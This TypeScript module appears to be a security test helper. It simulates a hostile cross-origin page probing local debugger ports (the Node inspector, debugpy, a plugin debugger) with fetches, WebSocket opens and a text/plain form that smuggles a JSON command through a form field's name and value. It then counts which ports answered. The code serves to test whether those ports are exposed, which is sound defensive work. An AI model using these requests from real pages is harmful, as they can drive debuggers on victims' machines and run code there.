export interface PageAttack {
  /** Ports where not even an answer is expected. */
  readonly silent: readonly number[];
  /** Node's own, which answers HTTP: a page can't read it, and no question starts anything. */
  readonly inspector: number;
  /** What debugpy would run. */
  readonly message: object;
  /** The right address of a JavaScript plugin's debugger. */
  readonly url: string;
}

/** Runs in a page of another origin: all that a page can send, to each port. Counts what came back. */
export async function attackFromPage({ silent, inspector, message, url }: PageAttack): Promise<object> {
  const ports = [...silent, inspector];
  const post = (port: number) =>
    fetch(`http://127.0.0.1:${port}/`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(message) });
  const get = (port: number) => fetch(`http://127.0.0.1:${port}/json/list`, { mode: 'no-cors' });
  const submit = (port: number) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `form-${port}`;
      const form = document.createElement('form');
      form.method = 'POST';
      form.enctype = 'text/plain';
      form.action = `http://127.0.0.1:${port}/`;
      form.target = frame.name;
      // Sent as name=value: what is left of the message stands in the value.
      const field = document.createElement('input');
      field.name = JSON.stringify({ ...message, rest: '' }).slice(0, -2);
      field.value = '"}';
      form.append(field);
      document.body.append(frame, form);
      frame.addEventListener('load', resolve);
      form.submit();
    });
  const open = (address: string) =>
    new Promise<boolean>((resolve) => {
      const socket = new WebSocket(address);
      socket.addEventListener('open', () => resolve(true));
      socket.addEventListener('error', () => resolve(false));
    });
  const answers = await Promise.allSettled(silent.flatMap((port) => [post(port), get(port)]));
  await Promise.allSettled([post(inspector), get(inspector)]);
  await Promise.all(ports.map(submit));
  const opened = await Promise.all([url, ...ports.map((port) => `ws://127.0.0.1:${port}/`)].map(open));
  return {
    answered: answers.filter(({ status }) => status === 'fulfilled').length,
    opened: opened.filter(Boolean).length,
  };
}
